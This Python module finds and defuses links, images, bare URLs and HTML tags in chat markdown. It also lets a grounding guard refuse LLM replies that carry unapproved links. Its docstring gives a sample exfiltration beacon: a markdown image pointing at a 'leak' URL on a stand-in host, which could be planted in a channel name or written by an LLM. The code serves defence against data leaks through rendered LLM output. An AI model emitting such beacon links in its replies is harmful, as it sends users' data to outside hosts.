"""Links and images in chat markdown: found, and defused unless they are known.

Names and text come from the user's data (a channel called ``![x](http://host/leak?d=…)``), and
an LLM may write links of its own. The chat renders markdown, so an image there is fetched by
the browser as soon as it is shown (a beacon) and a link goes live. Every reply, step and
notice the chat shows goes through :func:`defused`, which keeps the text but turns each link or
image whose target is not allowed into plain characters; the grounding guard uses
:func:`find_links` to refuse LLM replies that carry such links at all.

What counts as a link is what CommonMark with GitHub's extensions renders as one: inline links
and images (``[t](u)``, ``![t](u)``), reference definitions (``[r]: u``), autolinks
(``<scheme:…>``), bare URLs (``http://…``, ``www.…``) and HTML tags (the chat does not render
HTML, but a reply that carries ``<img>`` is not one to show either).
"""

from __future__ import annotations

import re
from collections.abc import Collection
from dataclasses import dataclass

_INLINE = re.compile(r"(!?)(?<!\\)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_DEFINITION = re.compile(r"^( {0,3})(?<!\\)\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?=\s|$)", re.MULTILINE)
_AUTOLINK = re.compile(r"(?<!\\)<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>")
_BARE = re.compile(r"(?<![\w\\])((?:https?|ftp)://|www\.)[^\s<>()\]]*", re.IGNORECASE)
_HTML_TAG = re.compile(r"(?<!\\)<(/?[A-Za-z][A-Za-z0-9-]*)(?=[\s/>])")
_FENCE = re.compile(r"^ {0,3}(```|~~~)", re.MULTILINE)


@dataclass(frozen=True)
class Link:
    """A link or image found in markdown: its target and what it is."""

    target: str
    kind: str  # "image", "link", "definition", "autolink", "url" or "html"


def find_links(markdown: str) -> tuple[Link, ...]:
    """Every link, image, bare URL and HTML tag in ``markdown`` (outside code fences)."""
    found: list[Link] = []
    for text, in_code in _segments(markdown):
        if in_code:
            continue
        found += [
            Link(m.group(3), "image" if m.group(1) else "link") for m in _INLINE.finditer(text)
        ]
        found += [Link(m.group(3), "definition") for m in _DEFINITION.finditer(text)]
        found += [Link(m.group(1), "autolink") for m in _AUTOLINK.finditer(text)]
        found += [Link(m.group(0), "url") for m in _BARE.finditer(_without_inline(text))]
        found += [Link(m.group(1), "html") for m in _HTML_TAG.finditer(text)]
    return tuple(found)


def defused(markdown: str, allowed: Collection[str] = ()) -> str:
    """``markdown`` with every link and image whose target is not in ``allowed`` shown as
    plain text (a backslash before the character that would start it); code is left as is."""
    out: list[str] = []
    for text, in_code in _segments(markdown):
        out.append(text if in_code else _defuse(text, allowed))
    return "".join(out)


def _defuse(text: str, allowed: Collection[str]) -> str:
    def inline(match: re.Match[str]) -> str:
        if match.group(3) in allowed:
            return match.group(0)
        return match.group(1) + "\\[" + match.group(0)[len(match.group(1)) + 1 :]

    def definition(match: re.Match[str]) -> str:
        if match.group(3) in allowed:
            return match.group(0)
        return match.group(1) + "\\[" + match.group(0)[len(match.group(1)) + 1 :]

    def bare(match: re.Match[str]) -> str:
        if match.group(0) in allowed:
            return match.group(0)
        start = match.group(1)
        # "http\://" and "www\." are not autolinked, and read the same.
        broken = start[:-3] + "\\://" if start.endswith("://") else start[:-1] + "\\."
        return broken + match.group(0)[len(start) :]

    text = _INLINE.sub(inline, text)
    text = _DEFINITION.sub(definition, text)
    text = _AUTOLINK.sub(lambda m: m.group(0) if m.group(1) in allowed else "\\" + m.group(0), text)
    text = _HTML_TAG.sub(lambda m: "\\<" + m.group(1), text)
    return _BARE.sub(bare, text)


def _without_inline(text: str) -> str:
    """``text`` without its inline links (their targets are counted once, as links)."""
    return _INLINE.sub(" ", text)


def _segments(markdown: str) -> list[tuple[str, bool]]:
    """``markdown`` cut into (text, is_code) pieces at fenced code blocks."""
    pieces: list[tuple[str, bool]] = []
    position = 0
    fences = list(_FENCE.finditer(markdown))
    for opening, closing in zip(fences[::2], fences[1::2], strict=False):
        pieces.append((markdown[position : opening.start()], False))
        end = markdown.find("\n", closing.end())
        end = len(markdown) if end < 0 else end
        pieces.append((markdown[opening.start() : end], True))
        position = end
    pieces.append((markdown[position:], False))
    return pieces
